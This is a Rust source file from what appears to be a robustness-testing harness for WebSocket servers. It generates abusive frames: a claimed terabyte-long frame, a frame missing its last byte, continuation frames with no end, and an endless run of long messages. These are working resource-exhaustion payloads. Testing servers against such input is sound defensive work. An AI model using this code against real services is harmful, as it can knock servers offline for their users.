//! WebSocket frames that are too long, or never end.

use anyhow::Result;
use tokio::io::AsyncWriteExt;

use super::attacker::{Attacker, wait_for_end};

const TEXT: u8 = 0x1;
const CONTINUATION: u8 = 0x0;
const LAST: u8 = 0x80;

/// The length of a long frame, in bytes.
const LONG_FRAME_BYTES: usize = 255 * 1024;

/// Sends frames of one kind until the server closes the connection.
pub async fn send(attacker: &Attacker, number: usize) -> Result<()> {
    let mut stream = attacker.upgrade().await?;
    let payload = vec![b' '; LONG_FRAME_BYTES];
    match number % 4 {
        // A frame of a terabyte.
        0 => {
            stream.write_all(&head(LAST | TEXT, 1 << 40)).await?;
            attacker.note_sent(1);
            loop {
                stream.write_all(&payload).await?;
            }
        }
        // A frame whose last byte does not arrive.
        1 => {
            stream
                .write_all(&head(LAST | TEXT, LONG_FRAME_BYTES))
                .await?;
            stream.write_all(&payload[1..]).await?;
            attacker.note_sent(1);
            wait_for_end(&mut stream).await
        }
        // A message of frames without an end.
        2 => {
            stream.write_all(&head(TEXT, 1_000)).await?;
            loop {
                stream.write_all(&payload[..1_000]).await?;
                stream.write_all(&head(CONTINUATION, 1_000)).await?;
                attacker.note_sent(1);
            }
        }
        // Long messages, one after the other.
        _ => loop {
            stream
                .write_all(&head(LAST | TEXT, LONG_FRAME_BYTES))
                .await?;
            stream.write_all(&payload).await?;
            attacker.note_sent(1);
        },
    }
}

/// Returns the head of a frame of this length, masked with zeros.
fn head(opcode: u8, length: usize) -> Vec<u8> {
    let mut head = vec![opcode, 0x80 | 127];
    head.extend((length as u64).to_be_bytes());
    head.extend([0; 4]);
    head
}
